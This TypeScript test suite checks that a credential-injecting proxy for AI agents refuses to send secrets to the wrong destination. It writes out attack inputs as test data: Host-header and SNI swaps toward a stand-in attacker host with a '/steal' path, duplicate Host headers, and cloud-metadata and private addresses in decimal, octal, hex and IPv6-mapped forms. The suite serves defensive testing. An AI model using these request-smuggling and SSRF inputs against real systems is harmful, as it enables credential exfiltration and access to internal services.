// Bending the destination: the agent tries to make a request carrying the
// credential land somewhere other than the host the secret is bound to.
import { after, before, type TestContext, test } from 'node:test';
import { connect as tlsConnect } from 'node:tls';
import { basicProxyAuth, connectError, connectTunnelSocket } from '../helpers/tunnel-client.ts';
import {
  ATTACKER,
  type AttackProduct,
  assertRefused,
  check,
  codeOf,
  get,
  PLAIN_ATTACKER,
  proxyAuth,
  SECRET,
  startAttackProduct,
  VICTIM,
} from './harness.ts';

const REBIND = 'rebind.victim.test';
const METADATA_NAME = 'metadata.victim.test';
let p: AttackProduct;
let vhost: string;

before(async () => {
  p = await startAttackProduct({
    resolve: [
      { host: REBIND, port: 443, address: '10.20.30.40' },
      { host: METADATA_NAME, port: 443, address: '169.254.169.254' },
    ],
  });
  vhost = `${VICTIM}:${p.victim.port}`;
  // Services whose names resolve to private and metadata addresses.
  for (const [name, host] of [
    ['rebind', REBIND],
    ['metadata', METADATA_NAME],
  ] as const) {
    await p.api('POST', '/v1/services', {
      name,
      hosts: [`${host}:443`],
      auth: { kind: 'bearer' },
      secret: 'github',
    });
    await p.api('POST', '/v1/grants', { agent: 'bot', service: name });
  }
});
after(() => p.close());

const auth = (): Record<string, string> => ({ 'Proxy-Authorization': basicProxyAuth(p.agentKey) });

async function connectRefused(t: TestContext, authority: string, code: string): Promise<void> {
  t.plan(3);
  const mark = await p.mark();
  const res = await connectError(p.server.proxy.port, authority, auth());
  await assertRefused(t, p, mark, res, code);
}

test('host-swap-in-tunnel', async (t) => {
  t.plan(4);
  const mark = await p.mark();
  const before = p.victim.requests.length;
  const res = await p.send(
    VICTIM,
    p.victim.port,
    get('/repos/echo', `${ATTACKER}:${p.attacker.port}`),
  );
  await assertRefused(t, p, mark, res, 'ERR_HOST_MISMATCH');
  t.assert.equal(p.victim.requests.length, before);
});

test('host-swap-port-in-tunnel', async (t) => {
  t.plan(3);
  const mark = await p.mark();
  const res = await p.send(VICTIM, p.victim.port, get('/repos/echo', `${VICTIM}:1`));
  await assertRefused(t, p, mark, res, 'ERR_HOST_MISMATCH');
});

test('host-swap-on-second-keep-alive-request', async (t) => {
  t.plan(4);
  const mark = await p.mark();
  const tls = await p.tunnel(VICTIM, p.victim.port);
  const { ResponseReader } = await import('../helpers/tunnel-client.ts');
  const reader = new ResponseReader(tls);
  tls.write(`GET /repos/ok HTTP/1.1\r\nHost: ${vhost}\r\n\r\n`);
  const first = await reader.response();
  t.assert.equal(first.status, 200);
  tls.write(get('/repos/echo', `${ATTACKER}:${p.attacker.port}`));
  const second = await reader.response().catch(() => null);
  tls.destroy();
  await assertRefused(t, p, mark, second, 'ERR_HOST_MISMATCH');
});

test('absolute-form-uri-to-another-host-in-tunnel', async (t) => {
  t.plan(3);
  const mark = await p.mark();
  const res = await p.send(
    VICTIM,
    p.victim.port,
    `GET https://${ATTACKER}:${p.attacker.port}/steal HTTP/1.1\r\nHost: ${vhost}\r\nConnection: close\r\n\r\n`,
  );
  await assertRefused(t, p, mark, res, 'ERR_HOST_MISMATCH');
});

test('duplicate-host-headers-in-tunnel', async (t) => {
  t.plan(3);
  const mark = await p.mark();
  const res = await p.send(
    VICTIM,
    p.victim.port,
    `GET /repos/echo HTTP/1.1\r\nHost: ${vhost}\r\nHost: ${ATTACKER}:${p.attacker.port}\r\nConnection: close\r\n\r\n`,
  );
  await assertRefused(t, p, mark, res, 'ERR_HOST_MISMATCH');
});

test('sni-differs-from-connect', async (t) => {
  t.plan(3);
  const mark = await p.mark();
  const failed = await p.tunnel(VICTIM, p.victim.port, p.agentKey, ATTACKER).then(
    (s) => {
      s.destroy();
      return false;
    },
    () => true,
  );
  check(t, failed, 'the handshake with a foreign SNI failed');
  const e = await p.audited(mark, (e) => e.code === 'ERR_SNI_MISMATCH', 'SNI mismatch');
  t.assert.equal(e.kind, 'proxy.denied');
  p.assertNoLeak(t.assert);
});

test('h2-authority-smuggling: an h2-only client gets no session, so no unchecked :authority', async (t) => {
  // Interception speaks HTTP/1.1 only; a client insisting on h2 (where
  // :authority could differ from the CONNECT host) fails ALPN and sends nothing.
  t.plan(3);
  const before = p.victim.requests.length;
  const raw = await connectTunnelSocket(p.server.proxy.port, vhost, auth());
  const tls = tlsConnect({ socket: raw, ca: p.caPem, servername: VICTIM, ALPNProtocols: ['h2'] });
  const outcome = await new Promise<string>((resolve) => {
    tls.once('secureConnect', () => resolve(tls.alpnProtocol === 'h2' ? 'h2' : 'other'));
    tls.once('error', (e: Error) => resolve(e.message));
  });
  tls.destroy();
  t.assert.match(outcome, /no application protocol/);
  t.assert.equal(p.victim.requests.length, before);
  p.assertNoLeak(t.assert);
});

test('connect-to-unbound-host', (t) =>
  connectRefused(t, `${ATTACKER}:443`, 'ERR_DESTINATION_DENIED'));
test('connect-to-bound-host-on-another-port', (t) =>
  connectRefused(t, `${VICTIM}:443`, 'ERR_DESTINATION_DENIED'));
test('connect-to-metadata-ip-literal', (t) =>
  connectRefused(t, '169.254.169.254:443', 'ERR_DESTINATION_DENIED'));
test('connect-to-metadata-decimal-form', (t) =>
  connectRefused(t, '2852039166:443', 'ERR_DESTINATION_DENIED'));
test('connect-to-metadata-octal-form', (t) =>
  connectRefused(t, '0251.0376.0251.0376:443', 'ERR_DESTINATION_DENIED'));
test('connect-to-metadata-hex-form', (t) =>
  connectRefused(t, '0xa9fea9fe:443', 'ERR_DESTINATION_DENIED'));
test('connect-to-ipv4-mapped-ipv6-metadata', (t) =>
  connectRefused(t, '[::ffff:169.254.169.254]:443', 'ERR_DESTINATION_DENIED'));
test('connect-to-ipv4-mapped-ipv6-hex-private', (t) =>
  connectRefused(t, '[::ffff:a00:1]:443', 'ERR_DESTINATION_DENIED'));
test('connect-to-ipv6-loopback', (t) => connectRefused(t, '[::1]:443', 'ERR_DESTINATION_DENIED'));
test('connect-to-short-form-loopback', (t) =>
  connectRefused(t, `127.1:${p.victim.port}`, 'ERR_DESTINATION_DENIED'));
test('connect-to-name-resolving-to-private-address', (t) =>
  connectRefused(t, `${REBIND}:443`, 'ERR_PRIVATE_ADDRESS'));
test('connect-to-name-resolving-to-metadata-address', (t) =>
  connectRefused(t, `${METADATA_NAME}:443`, 'ERR_PRIVATE_ADDRESS'));

test('redirect-to-attacker-host: the Location is scrubbed and the follow-up carries nothing', async (t) => {
  t.plan(4);
  const mark = await p.mark();
  const res = await p.send(VICTIM, p.victim.port, get('/repos/redirect', vhost));
  t.assert.equal(res?.status, 302);
  check(
    t,
    !(res?.headers.location ?? '').includes(encodeURIComponent(SECRET)),
    'Location scrubbed',
  );
  // The agent follows the redirect: the attacker's host on 443 is not bound.
  const follow = await connectError(p.server.proxy.port, `${ATTACKER}:443`, auth());
  t.assert.equal(codeOf(follow), 'ERR_DESTINATION_DENIED');
  await p.audited(mark, (e) => e.code === 'ERR_DESTINATION_DENIED', 'the refused follow-up');
  p.assertNoLeak(t.assert);
});

test('plain-http-absolute-form-to-unbound-host', async (t) => {
  t.plan(3);
  const mark = await p.mark();
  const res = await p.sendPlain(
    `GET http://${PLAIN_ATTACKER}:${p.plainAttacker.port}/x HTTP/1.1\r\nHost: ${PLAIN_ATTACKER}:${p.plainAttacker.port}\r\nProxy-Authorization: ${proxyAuth(p.agentKey)}\r\nConnection: close\r\n\r\n`,
  );
  await assertRefused(t, p, mark, res, 'ERR_DESTINATION_DENIED');
});

test('plain-http-downgrade-to-https-only-service', async (t) => {
  t.plan(3);
  const mark = await p.mark();
  const res = await p.sendPlain(
    `GET http://${vhost}/repos/echo HTTP/1.1\r\nHost: ${vhost}\r\nProxy-Authorization: ${proxyAuth(p.agentKey)}\r\nConnection: close\r\n\r\n`,
  );
  await assertRefused(t, p, mark, res, 'ERR_DESTINATION_DENIED');
});

test('plain-http-host-header-differs-from-absolute-uri', async (t) => {
  t.plan(3);
  const mark = await p.mark();
  const res = await p.sendPlain(
    `GET http://${PLAIN_ATTACKER}:${p.plainAttacker.port}/x HTTP/1.1\r\nHost: ${vhost}\r\nProxy-Authorization: ${proxyAuth(p.agentKey)}\r\nConnection: close\r\n\r\n`,
  );
  await assertRefused(t, p, mark, res, 'ERR_DESTINATION_DENIED');
});
